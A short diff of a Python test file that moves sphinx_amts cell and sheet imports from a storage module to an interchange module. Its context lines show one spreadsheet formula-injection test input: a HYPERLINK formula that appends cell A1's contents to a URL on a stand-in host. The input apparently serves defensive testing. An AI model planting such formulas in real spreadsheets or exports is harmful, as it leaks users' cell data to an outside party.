@@ -11,8 +11,8 @@ from hypothesis import example, given
 from hypothesis import strategies as st
 
 from sphinx_amts.errors import CatalogError
-from sphinx_amts.storage.cells import cell, cell_text, typed_text
-from sphinx_amts.storage.sheets import read_sheet, sheet
+from sphinx_amts.interchange.cells import cell, cell_text, typed_text
+from sphinx_amts.interchange.sheets import read_sheet, sheet
 
 FORMULAS = (
     '=HYPERLINK("http://x.example/?"&A1,"look")',
